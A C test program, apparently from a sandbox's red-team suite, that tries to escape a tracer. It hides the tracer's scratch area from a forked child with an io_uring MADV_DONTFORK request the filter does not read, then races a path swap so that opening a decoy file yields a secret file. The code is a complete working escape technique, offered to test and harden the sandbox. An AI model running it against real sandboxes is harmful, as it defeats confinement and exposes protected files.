/* area_uring_dontfork.c: a forked child without the scratch area the tracer takes it to have,
 * the area kept from it by an io_uring's IORING_OP_MADVISE (close 23).
 *
 * Red team 76's area_dontfork.c through another door: process_madvise's MADV_DONTFORK is
 * refused by the filter now, but an io_uring (where a rule permits it: the io-uring alias)
 * runs madvise for the program -- any advice, do_madvise on the program's own memory, its
 * range in a submission queue entry no filter reads.  The parent marks the tracer's area
 * MADV_DONTFORK so, then forks; the child finds nothing at the area's address, maps its own
 * read-write-execute memory there with a hint mmap (no MAP_FIXED: no guard, no stop), and a
 * thread writes the secret's path into every slot's path while the other opens the decoy.
 * The same thread flips the program's own buffer (decoy <-> secret): natively (no tracer, no
 * area) that is what reaches the secret (the control).
 *
 *   area_uring_dontfork SECRET DECOY   (absolute paths of the same length)
 */
#include "attack.h"
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <linux/io_uring.h>
#include <sys/wait.h>

#define BASE 0x100000000000UL
#define AREA (1UL << 30)
#define SLOT (256UL * 1024)
#define SLOTS 4
#define PATH1 32

static const char *secret, *decoy;
static char path[4096];
static volatile int done;

static void *flip(void *unused) {
    (void)unused;
    size_t n = strlen(secret) + 1;
    while (!done) {
        for (unsigned long s = 0; s < SLOTS; s++) {
            memset((char *)(BASE + s * SLOT), 0, PATH1);  /* (an openat2's how: no resolve flags) */
            memcpy((char *)(BASE + s * SLOT + PATH1), secret, n);
        }
        memcpy(path, secret, n);
        memcpy(path, decoy, n);
    }
    return NULL;
}

/* IORING_OP_MADVISE of [addr, addr + len) with ADVICE, run by a ring made for it: its result
 * (the cqe's; *made set), or -errno of the ring's set-up (*made 0). */
static int ring_madvise(unsigned long addr, unsigned long len, int advice, int *made) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    *made = 0;
    int fd = (int)syscall(SYS_io_uring_setup, 4, &p);
    if (fd < 0) return -errno;
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (p.features & IORING_FEAT_SINGLE_MMAP && cq_size > sq_size) sq_size = cq_size;
    char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd,
                    IORING_OFF_SQ_RING);
    char *cq = sq;
    if (!(p.features & IORING_FEAT_SINGLE_MMAP))
        cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd,
                  IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return -errno;
    *made = 1;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned idx = *tail & *(unsigned *)(sq + p.sq_off.ring_mask);
    memset(&sqes[idx], 0, sizeof sqes[idx]);
    sqes[idx].opcode = IORING_OP_MADVISE;
    sqes[idx].addr = addr;
    sqes[idx].len = (unsigned)len;
    sqes[idx].fadvise_advice = (unsigned)advice;
    ((unsigned *)(sq + p.sq_off.array))[idx] = idx;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    unsigned *head = (unsigned *)(cq + p.cq_off.head);
    while (*head == __atomic_load_n((unsigned *)(cq + p.cq_off.tail), __ATOMIC_ACQUIRE))
        ;
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return cqes[*head & *(unsigned *)(cq + p.cq_off.ring_mask)].res;
}

int main(int argc, char **argv) {
    if (argc != 3) usage("area_uring_dontfork SECRET DECOY");
    secret = argv[1];
    decoy = argv[2];
    int made;
    int advised = ring_madvise(BASE, AREA, MADV_DONTFORK, &made);
    if (!made && !tracer_pid())  /* (the control run: is io_uring there at all?) */
        skipped("no io_uring here: %s", ename(-advised));
    pid_t child = fork();
    if (child < 0) blocked("fork: %s", ename(errno));
    if (child > 0) {
        int status;
        waitpid(child, &status, 0);
        if (!WIFEXITED(status)) printf("BLOCKED: the child ended by signal %d\n", WTERMSIG(status));
        return 0;
    }
    void *own = mmap((void *)BASE, SLOTS * SLOT, PROT_READ | PROT_WRITE | PROT_EXEC,
                     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    note("IORING_OP_MADVISE(DONTFORK): %s; the child's own mapping at %p",
         advised < 0 ? ename(-advised) : "ok", own);
    if (own != (void *)BASE) blocked("the area's address is not the child's to map (%p)", own);
    memcpy(path, decoy, strlen(decoy) + 1);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    int refused = 0, other = 0;
    for (int i = 0; i < 20000; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) {
            refused++;
            continue;
        }
        if (is_secret_fd(fd)) {
            done = 1;
            escaped("open %d of the decoy gave the secret (fd -> %s)", i, fd_name(fd));
        }
        other++;
        close(fd);
    }
    done = 1;
    blocked("20000 opens: %d refused, %d not the secret", refused, other);
}
